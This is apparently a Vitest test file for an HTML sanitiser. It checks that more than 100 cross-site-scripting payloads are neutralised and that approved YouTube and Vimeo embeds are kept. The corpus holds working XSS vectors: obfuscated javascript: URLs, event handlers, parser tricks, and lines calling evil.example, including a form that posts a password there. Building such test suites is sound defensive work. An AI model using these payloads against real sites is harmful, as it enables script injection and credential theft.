import { JSDOM } from "jsdom"
import { describe, expect, test } from "vitest"
import { CALLS_PER_WINDOW, isAllowedEmbed, sanitizeHtml, sanitizerWindow } from "./sanitize.server.ts"

const js = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java&#x09;script:alert(1)",
  "&#106;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "DATA:image/svg+xml,<svg onload=alert(1)>",
  "\u0001javascript:alert(1)",
]
const handlers = [
  "onerror",
  "onload",
  "onclick",
  "onmouseover",
  "onfocus",
  "onanimationstart",
  "onpointerenter",
  "ontoggle",
  "onbegin",
  "onwheel",
]
const badFrames = [
  "https://evil.example/embed/aqz-KE-bpKQ",
  "http://www.youtube.com/embed/aqz-KE-bpKQ",
  "https://www.youtube.com/embed/short",
  "https://www.youtube.com/embed/aqz-KE-bpKQ/../../evil",
  "https://www.youtube.com.evil.example/embed/aqz-KE-bpKQ",
  "https://player.vimeo.com/video/abc",
  "https://player.vimeo.com/video/123/../../x",
  "javascript:alert(1)",
  "//www.youtube.com/embed/aqz-KE-bpKQ",
  "https://www.youtube.com/watch?v=aqz-KE-bpKQ",
  'https://www.youtube.com/embed/aqz-KE-bpKQ"><script>alert(1)</script>',
  "https://vimeo.com/123456",
  "data:text/html,<p>x</p>",
  "https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ#<x>",
]

/** At least 100 hostile snippets: scripts, handlers, unsafe URLs, forms, styles, frames, objects and parser tricks. */
const corpus: string[] = [
  ...js.flatMap((url) => [`<a href="${url}">x</a>`, `<img src="${url}">`, `<iframe src="${url}"></iframe>`]),
  ...handlers.flatMap((h) => [
    `<img src="/a.png" ${h}="alert(1)">`,
    `<p ${h}=alert(1)>x</p>`,
    `<details open ${h}="alert(1)">x</details>`,
  ]),
  ...badFrames.map((src) => `<iframe src="${src}"></iframe>`),
  `<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/aqz-KE-bpKQ"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" onload="alert(1)"></iframe>`,
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</script>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg onload=alert(1)>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<style>body{background:url(javascript:alert(1))}</style>`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<div style="position:fixed;inset:0">overlay</div>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<form action="https://evil.example"><input name=password><button>Go</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<input autofocus onfocus=alert(1)>`,
  `<textarea>x</textarea>`,
  `<select><option>x</option></select>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<applet code=x></applet>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="https://evil.example/">`,
  `<frameset><frame src="javascript:alert(1)"></frameset>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<img src=x onerror=alert(1)//`,
  `<img """><script>alert(1)</script>">`,
  `<a href="javascript:alert(1)" target="_self">x</a>`,
  `<a href="#" onclick="alert(1)">x</a>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<isindex action=javascript:alert(1)>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
  `<img src="/x.png" data-src="javascript:alert(1)" data-x="1">`,
  `<div data-bind="value: alert(1)">x</div>`,
  `<a href="https://example.com" ping="https://evil.example/track">x</a>`,
  `<iframe src="https://player.vimeo.com/video/1" sandbox=""></iframe>`,
  `<!--<img src=x onerror=alert(1)>-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<xss onafterscriptexecute=alert(1)>x</xss>`,
  `<a href="javas&#99;ript:alert(1)">x</a>`,
  `<p>ok</p><script>fetch('//evil.example')</script>`,
  `<img src="https://example.com/x.png" srcset="javascript:alert(1) 1x">`,
]

const URL_ATTRS = ["href", "src", "xlink:href", "action", "formaction", "poster", "background"]

function problems(html: string): string[] {
  const doc = new JSDOM(`<body>${html}</body>`).window.document
  const found: string[] = []
  for (const el of doc.body.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase()
    if (
      [
        "script",
        "style",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "object",
        "embed",
        "frame",
        "frameset",
        "meta",
        "link",
        "base",
        "svg",
        "math",
        "template",
      ].includes(tag)
    )
      found.push(`<${tag}>`)
    for (const attr of el.getAttributeNames()) {
      if (attr.startsWith("on")) found.push(`${tag}[${attr}]`)
      if (["style", "srcdoc", "formaction", "ping"].includes(attr) || attr.startsWith("data-")) found.push(`${tag}[${attr}]`)
      // eslint-disable-next-line no-control-regex -- control characters are exactly what it strips
      const value = (el.getAttribute(attr) ?? "").replace(/[\s\u0000-\u001f]+/g, "")
      if (URL_ATTRS.includes(attr) && /^(javascript|vbscript|data):/i.test(value)) found.push(`${tag}[${attr}=${value}]`)
      if (attr === "srcset" && /javascript:/i.test(value)) found.push(`${tag}[srcset]`)
    }
    if (tag === "iframe" && !isAllowedEmbed(el.getAttribute("src") ?? "")) found.push(`iframe ${el.getAttribute("src")}`)
  }
  return found
}

describe("sanitizeHtml", () => {
  test("the hostile corpus has at least 100 payloads", () => {
    expect(corpus.length).toBeGreaterThanOrEqual(100)
  })

  test.each(corpus)("neutralises %s", (payload) => {
    expect(problems(sanitizeHtml(payload))).toEqual([])
  })

  test("the corpus checker catches what the sanitiser must remove", () => {
    expect(
      problems(`<img src=x onerror=alert(1)><a href="javascript:x">y</a><iframe src="https://evil.example"></iframe>`),
    ).toHaveLength(3)
  })

  test("keeps allowed video embeds, lazy and titled", () => {
    for (const src of [
      "https://www.youtube.com/embed/aqz-KE-bpKQ",
      "https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ?start=10",
      "https://player.vimeo.com/video/76979871",
    ]) {
      const frame = new JSDOM(
        sanitizeHtml(`<iframe src="${src}" width="560" height="315"></iframe>`),
      ).window.document.querySelector("iframe")
      expect(frame?.getAttribute("src")).toBe(src)
      expect(frame?.getAttribute("loading")).toBe("lazy")
      expect(frame?.getAttribute("title")).toBe("Embedded video")
    }
  })

  test("opens external links in a new tab without an opener, and keeps ordinary markup", () => {
    const html = sanitizeHtml(
      `<h2>Hi</h2><p><a href="https://example.com/a">out</a> <a href="/blog" target="_blank">in</a></p><table><tr><td>1</td></tr></table>`,
    )
    const doc = new JSDOM(html).window.document
    const [outside, inside] = doc.querySelectorAll("a")
    expect(outside?.getAttribute("target")).toBe("_blank")
    expect(outside?.getAttribute("rel")).toBe("noopener noreferrer")
    expect(inside?.hasAttribute("target")).toBe(false)
    expect(doc.querySelector("h2")?.textContent).toBe("Hi")
    expect(doc.querySelector("td")?.textContent).toBe("1")
  })

  test("makes a table reachable by keyboard, since a wide one scrolls sideways", () => {
    const html = sanitizeHtml(`<table tabindex="7"><tr><td>1</td></tr></table>`)
    expect(new JSDOM(html).window.document.querySelector("table")?.getAttribute("tabindex")).toBe("0")
  })

  test("a long-running server gets a fresh window after a bounded number of calls, with the same rules", () => {
    sanitizeHtml("<p>warm</p>")
    const first = sanitizerWindow()
    for (let i = 0; i < CALLS_PER_WINDOW; i++) sanitizeHtml(`<p>${i}</p>`)
    const second = sanitizerWindow()
    expect(second === first).toBe(false)
    // The old window was closed (jsdom then drops its document): what it held can be freed.
    expect(first.document).toBeUndefined()
    expect(second.document).toBeDefined()
    for (const payload of corpus) expect(problems(sanitizeHtml(payload))).toEqual([])
    const frame = new JSDOM(
      sanitizeHtml(`<iframe src="https://player.vimeo.com/video/1" width="9"></iframe>`),
    ).window.document.querySelector("iframe")
    expect(frame?.getAttribute("loading")).toBe("lazy")
    expect(frame?.hasAttribute("width")).toBe(false)
    expect(sanitizeHtml(`<table><tr><td>1</td></tr></table>`)).toContain('tabindex="0"')
  })
})
